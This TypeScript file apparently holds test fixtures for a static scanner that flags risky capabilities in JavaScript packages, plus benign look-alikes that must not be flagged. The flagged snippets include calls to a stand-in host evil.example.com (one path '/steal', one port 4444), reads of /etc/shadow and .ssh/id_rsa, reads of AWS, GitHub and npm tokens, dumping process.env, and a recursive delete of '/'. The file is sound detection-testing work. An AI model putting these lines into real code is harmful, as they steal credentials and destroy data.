import type { FindingCapability } from '@agentplug/models';
import { SHELL_AND_EVAL_SNIPPETS } from './shell-and-eval-snippets';

/** A snippet that uses a capability, and the finding the scan must report for it. */
export interface CapabilitySnippet {
  name: string;
  code: string;
  filename?: string;
  capability: FindingCapability;
  findingCode: string;
  /** The target (host, path, variable) the finding must carry in its message, when there is one. */
  mentions?: string;
}

/** One snippet per trick of the issue, and more. */
export const CAPABILITY_SNIPPETS: readonly CapabilitySnippet[] = [
  ...SHELL_AND_EVAL_SNIPPETS,
  // ---- network
  {
    name: 'fetch literal',
    code: "fetch('https://evil.example.com/steal');",
    capability: 'network',
    findingCode: 'NETWORK_REQUEST',
    mentions: 'evil.example.com',
  },
  {
    name: 'fetch through globalThis',
    code: "globalThis.fetch('https://evil.example.com');",
    capability: 'network',
    findingCode: 'NETWORK_REQUEST',
    mentions: 'evil.example.com',
  },
  {
    name: 'fetch new URL',
    code: "fetch(new URL('/x', 'https://api.example.com'));",
    capability: 'network',
    findingCode: 'NETWORK_REQUEST',
    mentions: 'api.example.com',
  },
  {
    name: 'fetch unknown target',
    code: 'fetch(url);',
    capability: 'network',
    findingCode: 'NETWORK_REQUEST',
  },
  {
    name: 'WebSocket',
    code: "new WebSocket('wss://evil.example.com');",
    capability: 'network',
    findingCode: 'NETWORK_REQUEST',
    mentions: 'evil.example.com',
  },
  { name: 'http import', code: "require('http');", capability: 'network', findingCode: 'NETWORK_MODULE' },
  {
    name: 'https.get',
    code: "const https = require('https'); https.get('https://api.example.com:8443/x');",
    capability: 'network',
    findingCode: 'NETWORK_REQUEST',
    mentions: 'api.example.com:8443',
  },
  {
    name: 'http.request options',
    code: "import http from 'node:http'; http.request({ hostname: 'evil.example.com', port: 80 });",
    filename: 'main.mjs',
    capability: 'network',
    findingCode: 'NETWORK_REQUEST',
    mentions: 'evil.example.com:80',
  },
  {
    name: 'http2 connect',
    code: "require('http2').connect('https://evil.example.com');",
    capability: 'network',
    findingCode: 'NETWORK_REQUEST',
    mentions: 'evil.example.com',
  },
  {
    name: 'net connect',
    code: "require('net').connect(4444, 'evil.example.com');",
    capability: 'network',
    findingCode: 'NETWORK_REQUEST',
    mentions: 'evil.example.com:4444',
  },
  {
    name: 'tls connect',
    code: "require('tls').connect({ host: 'evil.example.com', port: 443 });",
    capability: 'network',
    findingCode: 'NETWORK_REQUEST',
    mentions: 'evil.example.com:443',
  },
  {
    name: 'dgram',
    code: "require('dgram').createSocket('udp4');",
    capability: 'network',
    findingCode: 'NETWORK_MODULE',
  },
  {
    name: 'dns lookup',
    code: "require('dns').lookup('evil.example.com', () => {});",
    capability: 'network',
    findingCode: 'NETWORK_REQUEST',
    mentions: 'evil.example.com',
  },
  {
    name: 'dns/promises',
    code: "import { resolve4 } from 'dns/promises'; await resolve4('evil.example.com');",
    filename: 'main.mjs',
    capability: 'network',
    findingCode: 'NETWORK_REQUEST',
    mentions: 'evil.example.com',
  },
  {
    name: 'undici',
    code: "import { request } from 'undici'; await request('https://evil.example.com');",
    filename: 'main.mjs',
    capability: 'network',
    findingCode: 'NETWORK_REQUEST',
    mentions: 'evil.example.com',
  },
  {
    name: 'network module name built',
    code: "require('ht' + 'tps');",
    capability: 'network',
    findingCode: 'NETWORK_MODULE',
  },
  // ---- file system
  {
    name: 'readFileSync',
    code: "require('fs').readFileSync('/etc/passwd');",
    capability: 'filesystem_read',
    findingCode: 'FS_READ',
    mentions: '/etc/passwd',
  },
  {
    name: 'fs/promises readFile',
    code: "import { readFile } from 'node:fs/promises'; await readFile('/etc/shadow');",
    filename: 'main.mjs',
    capability: 'filesystem_read',
    findingCode: 'FS_READ',
    mentions: '/etc/shadow',
  },
  {
    name: 'fs.promises writeFile',
    code: "const fs = require('fs'); fs.promises.writeFile('/tmp/x', 'y');",
    capability: 'filesystem_write',
    findingCode: 'FS_WRITE',
    mentions: '/tmp/x',
  },
  {
    name: 'writeFileSync destructured',
    code: "const { writeFileSync } = require('fs'); writeFileSync('/etc/hosts', 'x');",
    capability: 'filesystem_write',
    findingCode: 'FS_WRITE',
    mentions: '/etc/hosts',
  },
  {
    name: 'appendFile',
    code: "require('fs').appendFile('/var/log/x', 'y', () => {});",
    capability: 'filesystem_write',
    findingCode: 'FS_WRITE',
  },
  {
    name: 'createWriteStream',
    code: "require('fs').createWriteStream('/tmp/out');",
    capability: 'filesystem_write',
    findingCode: 'FS_WRITE',
  },
  {
    name: 'rmSync',
    code: "require('fs').rmSync('/', { recursive: true });",
    capability: 'filesystem_write',
    findingCode: 'FS_WRITE',
  },
  {
    name: 'open for writing',
    code: "require('fs').openSync('/tmp/x', 'w');",
    capability: 'filesystem_write',
    findingCode: 'FS_WRITE',
  },
  {
    name: 'fs name built',
    code: "require(String.fromCharCode(102, 115)).writeFileSync('/tmp/x', 'y');",
    capability: 'filesystem_write',
    findingCode: 'FS_WRITE',
  },
  {
    name: 'path.join target',
    code: "const fs = require('fs'); const path = require('path'); fs.readFileSync(path.join('/home', 'user', '.ssh/id_rsa'));",
    capability: 'filesystem_read',
    findingCode: 'FS_READ',
    mentions: '/home/user/.ssh/id_rsa',
  },
  // ---- env
  {
    name: 'process.env member',
    code: 'process.env.AWS_SECRET_ACCESS_KEY;',
    capability: 'env',
    findingCode: 'ENV_READ',
    mentions: 'AWS_SECRET_ACCESS_KEY',
  },
  {
    name: 'process.env computed',
    code: "process.env['GITHUB_' + 'TOKEN'];",
    capability: 'env',
    findingCode: 'ENV_READ',
    mentions: 'GITHUB_TOKEN',
  },
  {
    name: 'process.env destructuring',
    code: 'const { NPM_TOKEN } = process.env;',
    capability: 'env',
    findingCode: 'ENV_READ',
    mentions: 'NPM_TOKEN',
  },
  {
    name: 'process destructuring nested',
    code: 'const { env: { HOME } } = process;',
    capability: 'env',
    findingCode: 'ENV_READ',
    mentions: 'HOME',
  },
  {
    name: 'process.env alias',
    code: 'const environment = process.env; environment.SECRET;',
    capability: 'env',
    findingCode: 'ENV_READ',
    mentions: 'SECRET',
  },
  { name: 'process.env unknown key', code: 'process.env[name];', capability: 'env', findingCode: 'ENV_READ' },
  {
    name: 'process.env whole',
    code: 'send(JSON.stringify(process.env));',
    capability: 'env',
    findingCode: 'ENV_READ',
    mentions: 'whole',
  },
  {
    name: 'process.env spread',
    code: 'const copy = { ...process.env };',
    capability: 'env',
    findingCode: 'ENV_READ',
  },
  {
    name: 'process.env rest',
    code: 'const { ...all } = process.env;',
    capability: 'env',
    findingCode: 'ENV_READ',
  },
  {
    name: 'process module env',
    code: "import { env } from 'node:process'; env.TOKEN;",
    filename: 'main.mjs',
    capability: 'env',
    findingCode: 'ENV_READ',
    mentions: 'TOKEN',
  },
  // ---- native
  {
    name: 'require .node',
    code: "require('./binding.node');",
    capability: 'native',
    findingCode: 'NATIVE_ADDON',
  },
  {
    name: 'process.dlopen',
    code: "process.dlopen(module, '/tmp/evil.node');",
    capability: 'native',
    findingCode: 'NATIVE_ADDON',
  },
  // ---- dynamic
  {
    name: 'require of a variable',
    code: 'require(moduleName);',
    capability: 'dynamic',
    findingCode: 'DYNAMIC_IMPORT',
  },
  {
    name: 'import of a parameter',
    code: 'export async function load(name) { return import(name); }',
    filename: 'main.mjs',
    capability: 'dynamic',
    findingCode: 'DYNAMIC_IMPORT',
  },
  {
    name: 'template with unknown part',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the snippet is code with a template literal
    code: 'require(`./locales/${language}.js`);',
    capability: 'dynamic',
    findingCode: 'DYNAMIC_IMPORT',
  },
  {
    name: 'unknown member of child_process',
    code: "const cp = require('child_process'); cp[method]('ls');",
    capability: 'dynamic',
    findingCode: 'DYNAMIC_MEMBER_CALL',
  },
  {
    name: 'unknown member of globalThis',
    code: 'globalThis[name]("x");',
    capability: 'dynamic',
    findingCode: 'DYNAMIC_MEMBER_CALL',
  },
  { name: 'syntax error', code: 'const = ;', capability: 'dynamic', findingCode: 'SCAN_INCOMPLETE' },
];

/** Code that only looks dangerous: none of it may produce a finding. */
export const BENIGN_SNIPPETS: readonly { name: string; code: string; filename?: string }[] = [
  {
    name: 'local fetch function',
    code: "function fetch(url) { return url; } fetch('https://evil.example.com');",
  },
  { name: 'local fetch declared after use', code: "fetch('https://evil.example.com'); function fetch() {}" },
  {
    name: 'exec method on a plain object',
    code: "const runner = { exec(command) { return command; } }; runner.exec('ls');",
  },
  { name: 'RegExp exec', code: "/a+/.exec('aaa'); new RegExp('b').exec('b');" },
  { name: 'RegExp.prototype.exec', code: "RegExp.prototype.exec.call(/a/, 'a');" },
  { name: 'shadowed process parameter', code: 'function read(process) { return process.env.SECRET; }' },
  { name: 'shadowed process variable', code: 'const process = { env: {} }; process.env.TOKEN;' },
  { name: 'shadowed require parameter', code: "function load(require) { return require('child_process'); }" },
  { name: 'shadowed eval', code: "function run(eval2) { const evaluate = eval2; evaluate('x'); }" },
  {
    name: 'local variable named eval in module',
    code: "const check = (evalFn) => evalFn('x'); check((x) => x);",
    filename: 'main.mjs',
  },
  {
    name: 'text inside strings',
    code: "const help = \"require('child_process').exec('rm -rf /')\"; console.log(help, 'eval(x)', `fetch('https://x')`);",
  },
  {
    name: 'comments',
    code: "// require('child_process')\n/* eval('x'); process.env.SECRET */\nexport const value = 1;",
    filename: 'main.mjs',
  },
  {
    name: 'timer with a function',
    code: 'setTimeout(() => console.log(1), 10); setInterval(function tick() {}, 100);',
  },
  { name: 'Function that returns this (globalThis shim)', code: "const root = Function('return this')();" },
  {
    name: 'harmless modules',
    code: "import path from 'node:path'; import { format } from 'node:util'; path.join('a', format('%s', 'b'));",
    filename: 'main.mjs',
  },
  {
    name: 'relative imports',
    code: "import { helper } from './helper.js'; export { helper };",
    filename: 'main.mjs',
  },
  { name: 'require of a JSON file', code: "const data = require('./data.json'); module.exports = data;" },
  {
    name: 'hasOwnProperty bound through Function.call.bind',
    code: "const hasOwn = Function.call.bind(Object.prototype.hasOwnProperty); hasOwn({}, 'optional');",
  },
  {
    name: 'member named constructor',
    code: 'class Shape { constructor(size) { this.size = size; } } new Shape(1).constructor.name;',
  },
  { name: 'method called env', code: "const config = { env: { NAME: 'x' } }; config.env.NAME;" },
  { name: 'object with spawn key', code: "const jobs = { spawn: () => 1 }; jobs.spawn(); jobs['exec']?.();" },
  {
    name: 'TypeScript types only',
    code: "import type { ChildProcess } from 'child_process'; export type Run = (command: string) => ChildProcess; interface Env { HOME: string }",
    filename: 'main.ts',
  },
  {
    name: 'JSX',
    code: "export const App = () => <div onClick={() => console.log('eval')}>fetch</div>;",
    filename: 'main.jsx',
  },
  { name: 'process without env', code: 'process.on("exit", () => {}); process.cwd(); process.platform;' },
  { name: 'catch parameter named process', code: 'try { x(); } catch (process) { process.env.X; }' },
];
